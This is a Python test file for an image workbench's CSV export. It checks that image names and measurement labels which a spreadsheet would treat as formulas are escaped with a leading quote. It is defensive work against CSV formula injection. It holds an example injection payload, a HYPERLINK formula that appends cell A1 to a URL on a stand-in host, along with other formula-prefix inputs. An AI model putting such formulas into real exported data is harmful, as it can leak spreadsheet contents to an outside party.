"""CSV cells a spreadsheet would execute are escaped (issue 11, item 6): summary.csv image names,
measurement label names; numbers stay numbers and batch still recognises its own outputs."""
from __future__ import annotations

import csv

import numpy as np
import onnx_factory as F
from rel_helpers import run_cli

from workbench.core.document import Document
from workbench.inference.session import clear_session_cache
from workbench.io import read_image, write_png
from workbench.io.csv_safe import escape_cell, unescape_cell
from workbench.session import save_session

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_escape_rules():
    for text in (EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "'=already"):
        assert escape_cell(text).startswith("'") and unescape_cell(escape_cell(text)) == text
    for value in ("-3.5", "1e-3", "plain name", "", 4.2, None):
        assert escape_cell(value) == value


def test_summary_and_measurements_are_escaped(capsys, tmp_path):
    clear_session_cache()
    seg = {"id": "seg", "task": "segmentation",
           "input": {"color": "gray", "resize": "stretch", "size": [16, 16], "intensity": {"scale": 1 / 255}},
           "output": {"classes": [{"name": "background"}, {"name": "thing"}]}}
    plugin = F.write_plugin(tmp_path / "p", F.threshold_segmenter(1, size=[16, 16]), seg)
    src = tmp_path / "in"
    src.mkdir()
    name = "=HYPERLINK(1).png"
    write_png(src / name, (np.arange(256).reshape(16, 16) % 256).astype(np.uint8))
    code, _, err = run_cli(capsys, "batch", "-m", plugin, src, "-o", tmp_path / "out")
    assert code == 0, err
    raw = (tmp_path / "out" / "summary.csv").read_text()
    assert "\n'=HYPERLINK(1).png," in raw
    # a second forced run into the same folder still knows the escaped names of its outputs
    code, _, err = run_cli(capsys, "batch", "-m", plugin, src, "-o", src, "--force")
    code, _, err = run_cli(capsys, "batch", "-m", plugin, src, "-o", src, "--force")
    rows = list(csv.DictReader((src / "summary.csv").open()))
    assert [r["image"] for r in rows] == ["'" + name]
    doc = Document(read_image(src / name))
    with doc.labels.edit("b") as e:
        e.assign((slice(0, 1), slice(2, 6), slice(2, 6)), 1)
    doc.labels.ensure_label(1, EVIL, "#ff0000")
    session = save_session(doc, tmp_path / "s.wbsession")
    code, _, err = run_cli(capsys, "export", session, "--measurements", tmp_path / "m.csv")
    assert code == 0, err
    row = next(csv.DictReader((tmp_path / "m.csv").open()))
    assert row["name"] == "'" + EVIL and float(row["pixels"]) == 16
